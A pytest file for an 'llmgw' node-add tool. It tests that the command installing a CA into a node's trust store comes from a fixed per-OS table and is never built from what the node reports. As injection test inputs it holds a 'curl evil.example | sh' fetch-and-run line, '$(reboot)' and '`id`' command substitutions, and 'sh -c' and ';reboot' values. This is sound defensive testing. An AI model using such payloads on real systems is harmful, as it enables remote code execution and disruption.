"""node add trusts only what it chose: the command that puts the CA root in a node's system trust
store comes from layout.TRUST_STORES, picked by the OS family the node's os-release names, and
never from a string the node sent. The probe outputs here are recorded from real systems (the
first from this repository's Debian 12 build machine, the others from the os-release files in
tests/fixtures/os-release and Ubuntu 24.04), plus hostile ones a node could print instead."""

from __future__ import annotations

from pathlib import Path

import pytest
import trio

from llmgw.errors import MachineError
from llmgw.nodeadd import ssh
from llmgw.nodeadd.node import identify, install, layout
from llmgw.nodeadd.node.install import Facts, Options
from llmgw.pki.files import init_ca, load_ca

DEBIAN_12 = """\
hostname=vm
arch=x86_64
systemd=no
os_id=debian
tool=/usr/sbin/update-ca-certificates
"""
UBUNTU_24 = """\
hostname=gpu-01
arch=x86_64
systemd=yes
os_id=ubuntu
os_like=debian
tool=/usr/sbin/update-ca-certificates
"""
ROCKY_9 = """\
hostname=rocky
arch=aarch64
systemd=yes
os_id="rocky"
os_like="rhel centos fedora"
tool=/usr/bin/update-ca-trust
"""
SUSE = """\
hostname=leap
arch=x86_64
systemd=yes
os_id="opensuse-leap"
os_like="suse opensuse"
tool=/usr/sbin/update-ca-certificates
"""

DEBIAN_ROW = layout.TRUST_STORES[0]
RHEL_ROW = layout.TRUST_STORES[1]
TARGET = "root@10.0.0.21"
STAGED = "/tmp/llmgw-node-add.abcdefgh/ca.crt"


def test_the_table_rows_for_debian_and_rhel_families() -> None:
    assert layout.trust_store(layout.parse_probe(DEBIAN_12), TARGET) == DEBIAN_ROW
    assert layout.trust_store(layout.parse_probe(UBUNTU_24), TARGET) == DEBIAN_ROW
    assert layout.trust_store(layout.parse_probe(ROCKY_9), TARGET) == RHEL_ROW
    assert layout.trust_commands(DEBIAN_ROW, STAGED) == [
        ["install", "-D", "-m", "0644", STAGED, "/usr/local/share/ca-certificates/llmgw-ca.crt"],
        ["/usr/sbin/update-ca-certificates"],
    ]
    assert layout.trust_commands(RHEL_ROW, STAGED) == [
        ["install", "-D", "-m", "0644", STAGED, "/etc/pki/ca-trust/source/anchors/llmgw-ca.crt"],
        ["/usr/bin/update-ca-trust", "extract"],
    ]


def test_the_probe_asks_only_about_the_tables_paths() -> None:
    for row in layout.TRUST_STORES:
        assert row.tool in layout.PROBE
    probe = layout.parse_probe(ROCKY_9)
    assert (probe.os_id, probe.os_like) == ("rocky", ("rhel", "centos", "fedora"))  # quotes are data, stripped


@pytest.mark.parametrize(
    "line",
    [
        "tool=/usr/sbin/update-ca-certificates; curl evil.example | sh",  # shell metacharacters
        "tool=/usr/sbin/update-ca-certificates\t",  # not the path, byte for byte
        "tool=update-ca-certificates",  # a relative path: whatever PATH finds
        "tool=./update-ca-certificates",
        "tool=/tmp/update-ca-certificates",  # a path outside the table
        "trust=/usr/sbin/update-ca-certificates",  # the key the node sent before: now ignored
        "tool=/usr/sbin/update-ca-trust",  # a tool of the table, at a path that is not its own
    ],
)
def test_a_tool_line_that_is_not_one_of_the_tables_paths_counts_for_nothing(line: str) -> None:
    probe = layout.parse_probe(f"hostname=a\narch=x86_64\nos_id=debian\n{line}\n")
    assert probe.tools == frozenset()
    with pytest.raises(MachineError) as err:
        layout.trust_store(probe, TARGET)
    text = str(err.value)
    assert "has no /usr/sbin/update-ca-certificates" in text and "sudo apt-get install ca-certificates" in text
    assert "--no-system-trust" in text


def test_an_os_the_table_does_not_know_is_an_identify_failure_naming_it() -> None:
    with pytest.raises(MachineError) as err:
        layout.trust_store(layout.parse_probe(SUSE), TARGET)
    text = str(err.value)
    assert text.startswith(f"{TARGET}: its os-release says ID='opensuse-leap' ID_LIKE='suse opensuse'")
    assert "Debian, Ubuntu (update-ca-certificates)" in text and "RHEL, Fedora, CentOS, Rocky, AlmaLinux" in text
    assert "--no-system-trust" in text


def test_a_hostile_os_release_is_shown_escaped_and_selects_nothing() -> None:
    hostile = "os_id=$(reboot)\x1b[2J;`id`\nos_like=debian\x00 \ntool=/usr/sbin/update-ca-certificates\n"
    with pytest.raises(MachineError) as err:
        layout.trust_store(layout.parse_probe(hostile), TARGET)
    text = str(err.value)
    assert "\x1b" not in text and "\x00" not in text  # escaped: nothing reaches the terminal raw
    assert "'$(reboot)\\x1b[2J;`id`'" in text
    long = layout.parse_probe("os_id=" + "x" * 5000 + "\n")
    with pytest.raises(MachineError) as err:
        layout.trust_store(long, TARGET)
    assert len(str(err.value)) < 1000


def test_no_os_release_is_said() -> None:
    with pytest.raises(MachineError, match="has no readable /etc/os-release"):
        layout.trust_store(layout.parse_probe("hostname=a\narch=x86_64\ntool=/usr/bin/update-ca-trust\n"), TARGET)


# -- the flow: what is run on the node -----------------------------------------------------


class _Node:
    """A node that answers the probe with `probe` and every other command with success."""

    def __init__(self, probe: str) -> None:
        self.target = ssh.Target(user="root", host="10.0.0.21")
        self.user = "root"
        self.probe = probe
        self.ran: list[list[str]] = []

    async def run(self, argv, *, sudo=False, timeout_s):
        self.ran.append(list(argv))
        if argv[:2] == ["sh", "-c"]:
            return ssh.Result(exit_status=0, stdout=self.probe, stderr="")
        if argv[0] == "cat":
            return ssh.Result(exit_status=1, stdout="", stderr="No such file or directory")
        return ssh.Result(exit_status=0, stdout="", stderr="")

    async def put(self, local, remote, mode=0o755, *, timeout_s=600):
        pass


def _identify_and_trust(tmp_path: Path, probe: str, *, system_trust: bool = True) -> _Node:
    init_ca(tmp_path, validity_days=30)
    ca = load_ca(tmp_path)
    opts = Options(
        target="root@10.0.0.21",
        server_config=None,  # type: ignore[arg-type]  # not read by these two steps
        state_dir=tmp_path,
        known_hosts=tmp_path / "known_hosts",
        system_trust=system_trust,
    )
    node = _Node(probe)
    facts = Facts(stage="/tmp/llmgw-node-add.abcdefgh", cert_pem=b"-----BEGIN CERTIFICATE-----\n")

    async def steps() -> None:
        await identify.probe(opts, node, facts)
        node.ran.clear()
        await install.trust(node, facts, ca)

    trio.run(steps)
    return node


def test_the_trust_step_runs_the_tables_commands_whatever_else_the_node_printed(tmp_path: Path) -> None:
    hostile = "trust=/bin/sh -c 'touch /tmp/pwned'\ntool=/tmp/x;reboot\n" + ROCKY_9
    node = _identify_and_trust(tmp_path, hostile)
    assert node.ran[-2:] == [
        ["install", "-D", "-m", "0644", f"{STAGED}", "/etc/pki/ca-trust/source/anchors/llmgw-ca.crt"],
        ["/usr/bin/update-ca-trust", "extract"],
    ]
    assert not any("pwned" in word or "reboot" in word for argv in node.ran for word in argv)


def test_no_system_trust_leaves_the_system_store_alone(tmp_path: Path) -> None:
    node = _identify_and_trust(tmp_path, SUSE, system_trust=False)
    assert [argv[-1] for argv in node.ran] == [
        "/var/lib/llmgw-agent/pki/node.crt",
        "/var/lib/llmgw-agent/pki/ca.crt",
    ]  # the agent's own copies only


def test_an_unknown_os_stops_at_identify_before_anything_is_changed(tmp_path: Path) -> None:
    with pytest.raises(MachineError, match="opensuse-leap"):
        _identify_and_trust(tmp_path, SUSE)
